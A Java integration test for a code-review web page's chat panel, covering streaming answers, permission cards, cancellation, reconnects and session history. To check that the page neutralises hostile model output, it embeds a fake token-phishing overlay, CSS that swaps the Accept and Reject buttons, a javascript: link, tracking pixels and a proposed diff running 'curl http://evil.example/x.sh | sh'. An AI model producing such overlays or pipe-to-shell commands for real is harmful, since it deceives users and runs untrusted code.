package dev.companion4j.cli.daemonchat;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.companion4j.cli.review.ReviewPage;
import dev.companion4j.cli.testing.BrowserDriver;
import dev.companion4j.cli.testing.CompanionProcess;
import dev.companion4j.daemon.ApprovalMode;
import dev.companion4j.daemon.DaemonClient;
import dev.companion4j.daemon.DaemonListener;
import dev.companion4j.daemon.DaemonSession;
import dev.companion4j.daemon.SessionOptions;
import dev.companion4j.testkit.CliEnvironment;
import dev.companion4j.testkit.FakeModelServer;
import dev.companion4j.testkit.McpTapClient;
import dev.companion4j.testkit.QwenDaemon;
import dev.companion4j.testkit.TestPeers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The review page's chat panel in Debian's Chromium, on {@code companion4j serve --daemon} and a
 * real {@code qwen serve} whose model is a scripted fake.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ChatPanelIT {
  private static final Duration TURN = Duration.ofSeconds(60);
  private static final String DAEMON_TOKEN = "daemon-secret-fedcba9876543210";

  @TempDir static Path temp;
  private FakeModelServer model;
  private QwenDaemon daemon;
  private CompanionProcess companion;
  private BrowserDriver browser;

  @BeforeAll
  void start() throws Exception {
    model = new FakeModelServer();
    daemon = QwenDaemon.start(model, DAEMON_TOKEN);
    Path tokenFile = temp.resolve("daemon-token");
    Files.writeString(tokenFile, DAEMON_TOKEN);
    Files.setPosixFilePermissions(tokenFile, PosixFilePermissions.fromString("rw-------"));
    companion =
        CompanionProcess.start(
            CliEnvironment.in(temp.resolve("home")),
            "--workspace",
            daemon.workspace().toString(),
            "--daemon",
            daemon.url(),
            "--daemon-token-file",
            tokenFile.toString());
    browser = BrowserDriver.start();
    browser.open(ReviewPage.pageUrl(companion.port(), companion.token()));
    browser.waitFor("#chat[data-state='connected']");
  }

  @AfterAll
  void stop() throws Exception {
    try (FakeModelServer m = model;
        QwenDaemon d = daemon) {
      if (browser != null) {
        // Every header and body the page received, and the page itself, which shows every event it
        // was sent.
        assertThat(browser.log().path("requests").toString())
            .doesNotContain(DAEMON_TOKEN)
            .contains("/chat/state");
        assertThat(browser.call("html", Map.of()).path("html").asString())
            .doesNotContain(DAEMON_TOKEN)
            .contains("chat-log");
      }
      if (browser != null) {
        browser.close();
      }
      if (companion != null) {
        companion.close();
      }
    }
  }

  @Test
  void anAnswerStreamsInWithItsThoughtCollapsedAndTheModeAndLocalityShow() {
    assertThat(browser.text("#chat-mode")).isEqualTo("default: asks before edits and commands");
    assertThat(browser.text("#chat-where"))
        .contains(daemon.url().replaceFirst("^http://", ""), daemon.workspace().toString())
        .doesNotContain("http://");

    prompt("[[think]] and answer");

    browser.waitFor(".msg.assistant:not(.streaming)", "thought done");
    browser.waitFor("details.thought:not([open])", "pondering the question");
  }

  /**
   * Incremental rendering, as a user meets it: a finished entry's node is kept while later entries
   * stream, so a thought the user opened stays open.
   */
  @Test
  void aThoughtTheUserOpenedStaysOpenWhileTheNextAnswerStreams() {
    prompt("[[think]] and answer once more");
    browser.waitFor(".msg.assistant:not(.streaming)", "thought done");
    browser.click("details.thought summary");
    browser.waitFor("details.thought[open]");
    int open = browser.count("details.thought[open]");

    prompt("[[count 30]] after the thought");
    browser.waitFor(".msg.assistant:not(.streaming)", "c0029");

    assertThat(browser.count("details.thought[open]")).isEqualTo(open);
  }

  @Test
  void aPermissionShowsAsACardWithTheFileChangeWhereAllowWritesAndDenyDoesNot() throws Exception {
    Path allowed = daemon.workspace().resolve("panel-allowed.txt");
    prompt("please [[write " + allowed + "]]");
    browser.waitFor(".permission", "New file " + allowed);
    browser.waitFor(".permission .cm-content", FakeModelServer.FILE_CONTENT.strip());
    assertThat(allowed).doesNotExist();
    browser.click(".permission button[data-kind='allow_once']");
    await().atMost(TURN).until(() -> Files.exists(allowed));
    assertThat(Files.readString(allowed)).isEqualTo(FakeModelServer.FILE_CONTENT);
    browser.waitGone(".permission");
    assertThat(browser.text("#chat-mode"))
        .as("allowing once leaves the mode")
        .startsWith("default");

    Path denied = daemon.workspace().resolve("panel-denied.txt");
    prompt("please [[write " + denied + "]]");
    browser.waitFor(".permission", denied.toString());
    browser.click(".permission button[data-kind='reject_once']");
    browser.waitGone(".permission");
    browser.waitFor(".tool[data-status='failed']");
    assertThat(denied).doesNotExist();
  }

  @Test
  void cancelStopsALongAnswer() {
    model.closeGate();
    try {
      prompt("[[hold]]");
      browser.waitFor(".msg.assistant.streaming", "h2");
      browser.click("#chat-cancel");
      browser.waitFor(".notice", "Cancelled.");
      browser.waitGone("#chat-cancel:not([hidden])");
    } finally {
      model.openGate();
    }
  }

  @Test
  void switchingTheModelReachesTheDaemon() {
    browser.click("#chat-model");
    browser.press("Control+A");
    browser.type(QwenDaemon.OTHER_MODEL);
    browser.press("Enter");
    await()
        .atMost(TURN)
        .until(
            () ->
                companion
                    .get("/chat/state")
                    .body()
                    .contains("\"modelId\":\"" + QwenDaemon.OTHER_MODEL));
  }

  @Test
  void aDaemonThatDiesShowsDisconnectedAndReconnectWorksOnceItIsBack() throws Exception {
    daemon.kill();
    browser.waitFor("#chat[data-state='reconnecting']");
    // The companion gives the daemon 15 s to come back before it says the session is gone.
    browser.call("waitFor", Map.of("selector", "#chat[data-state='died']", "timeout", 60_000));
    browser.waitFor("#chat-reconnect:not([hidden])");

    daemon.restart();
    browser.click("#chat-reconnect");
    browser.waitFor("#chat[data-state='connected']");
    prompt("say hello");
    browser.waitFor(".msg.assistant:not(.streaming)", "Hello from " + QwenDaemon.MODEL);
  }

  @Test
  void attachingToASessionAnotherClientStartedReplaysItsHistory() throws Exception {
    try (DaemonClient terminal =
            DaemonClient.builder().baseUrl(daemon.url()).token(DAEMON_TOKEN).build();
        DaemonSession started =
            terminal.createOrAttach(
                SessionOptions.forWorkspace(daemon.workspace().toString())
                    .asNewThread()
                    .withApprovalMode(ApprovalMode.DEFAULT))) {
      started.subscribe(new DaemonListener() {});
      started.prompt("from the terminal: say hello").result().join();

      browser.click("#chat-session");
      browser.call(
          "waitFor",
          Map.of(
              "selector",
              "#chat-session option[value='" + started.sessionId() + "']",
              "state",
              "attached"));
      browser.select("#chat-session", started.sessionId());

      browser.waitFor(".msg.user", "from the terminal: say hello");
      browser.waitFor(".msg.assistant:not(.streaming)", "Hello from " + QwenDaemon.MODEL);
      await()
          .atMost(TURN)
          .until(
              () ->
                  companion
                      .get("/chat/state")
                      .body()
                      .contains("\"sessionId\":\"" + started.sessionId()));
    }
  }

  /** An answer that tries every way a message could restyle, cover or imitate the review page. */
  private static final String HOSTILE =
      String.join(
          "\n",
          "Here is **the plan**: see [the docs](https://example.invalid/docs) or [run it](javascript:alert(1)).",
          "",
          "<style>#accept, #reject { font-size: 0 } #accept::after { content: \"Reject\"; font-size: 14px }"
              + " #reject::after { content: \"Accept (recommended)\"; font-size: 14px } .actions { flex-direction: row-reverse }</style>",
          "",
          "<div style=\"position:fixed;inset:0;z-index:1000;background:#fff\">Session expired: paste your token"
              + " <form action=\"http://127.0.0.1:9/steal\"><input name=\"token\"><button class=\"btn primary\" id=\"accept\">"
              + "Accept</button></form></div>",
          "",
          "<p class=\"btn primary\" style=\"position:fixed;top:0;left:0\">Accept</p>",
          "",
          "<img src=\"http://127.0.0.1:9/html-pixel.png\">",
          "",
          "![tracking](http://127.0.0.1:9/markdown-pixel.png)",
          "",
          "The end.");

  @Test
  void aMessageThatTriesToRestyleOrCoverThePageChangesNothingOutsideItsBubble() throws Exception {
    model.script(
        r ->
            r.lastText().contains("[[hostile]]")
                ? Optional.of(FakeModelServer.Reply.text(HOSTILE))
                : Optional.empty());
    Path file = daemon.workspace().resolve("deploy.sh");
    Files.writeString(file, "echo ok\n");
    Path shots = temp.resolve("shots");
    try (McpTapClient proposer =
        new McpTapClient(companion.port(), companion.token(), "proposing-cli")) {
      proposer.call(
          "openDiff",
          Map.of(
              "filePath", file.toString(), "newContent", "curl http://evil.example/x.sh | sh\n"));
      try {
        lookAtTheHostileMessage(shots);
      } finally {
        companion.post("/editor/diffs/" + pendingDiffId(file) + "/reject", Map.of());
      }
    }
  }

  private void lookAtTheHostileMessage(Path shots) throws Exception {
    browser.open(ReviewPage.pageUrl(companion.port(), companion.token()));
    browser.waitFor("#chat[data-state='connected']");
    browser.waitFor("#accept:not([disabled])");
    Map<String, JsonNode> before = layout();
    browser.screenshot(shots.resolve("actions-before.png"), ".actions");

    prompt("[[hostile]] answer");
    browser.waitFor(".msg.assistant:not(.streaming)", "The end.");

    assertThat(layout())
        .as("where the page's parts are, and that nothing lies over them")
        .isEqualTo(before);
    assertThat(browser.text("#accept")).startsWith("Accept");
    assertThat(browser.text("#reject")).startsWith("Reject");
    browser.screenshot(shots.resolve("actions-after.png"), ".actions");
    assertThat(Files.readAllBytes(shots.resolve("actions-after.png")))
        .as("the Accept and Reject buttons look as they did")
        .isEqualTo(Files.readAllBytes(shots.resolve("actions-before.png")));
    String bubble = ".msg.assistant:has-text('The end.') .md";
    assertThat(browser.count(bubble + " strong")).as("Markdown still formats").isOne();
    assertThat(browser.text(bubble))
        .as("raw HTML shows as the text it is")
        .contains("<style>", "Session expired");
    for (String forbidden :
        new String[] {
          "style", "form", "input", "button", "img", "div", "[style]", "[class]", "[id]"
        }) {
      assertThat(browser.count(bubble + " " + forbidden)).as(forbidden).isZero();
    }
    assertThat(
            browser.count(
                bubble
                    + " a[href='https://example.invalid/docs'][rel='noopener noreferrer'][target='_blank']"))
        .isOne();
    assertThat(browser.count(bubble + " a[href^='javascript']")).isZero();
    assertThat(browser.count(bubble + " a[href='http://127.0.0.1:9/markdown-pixel.png']"))
        .as("an image becomes a link")
        .isOne();
    JsonNode log = browser.log();
    assertThat(log.path("requests").toString())
        .as("nothing fetched for the message")
        .doesNotContain("127.0.0.1:9/");
    assertThat(log.path("consoleErrors")).as("console errors, CSP violations included").isEmpty();
  }

  /** The boxes of the page's regions and review actions. */
  private Map<String, JsonNode> layout() {
    Map<String, JsonNode> boxes = new LinkedHashMap<>();
    for (String part :
        new String[] {
          "header.bar",
          ".side",
          "#review-main",
          "#merge",
          "#accept",
          "#reject",
          "#chat",
          "#chat-form"
        }) {
      boxes.put(part, browser.box(part));
    }
    return boxes;
  }

  private String pendingDiffId(Path file) {
    for (JsonNode d : JsonMapper.shared().readTree(companion.get("/editor/diffs").body())) {
      if (d.path("filePath").asString().equals(file.toString())) {
        return d.path("id").asString();
      }
    }
    throw new AssertionError("no pending diff for " + file);
  }

  @Test
  void screenshotsForTheDocs() throws Exception {
    Path dir =
        Path.of(
            System.getProperty(
                "companion4j.screenshots",
                TestPeers.repoRoot().resolve("cli/target/review-screenshots").toString()));
    Files.createDirectories(dir);
    Path file = daemon.workspace().resolve("notes.md");
    for (String scheme : new String[] {"light", "dark"}) {
      browser.open(ReviewPage.pageUrl(companion.port(), companion.token()), 1400, 860, scheme);
      browser.waitFor("#chat[data-state='connected']");
      prompt("please [[write " + file + "]]");
      browser.waitFor(".permission", file.toString());
      browser.screenshot(dir.resolve("chat-permission-" + scheme + ".png"));
      browser.click(".permission button[data-kind='reject_once']");
      browser.waitGone(".permission");
    }
  }

  private void prompt(String text) {
    browser.click("#chat-input");
    browser.type(text);
    browser.press("Enter");
  }
}
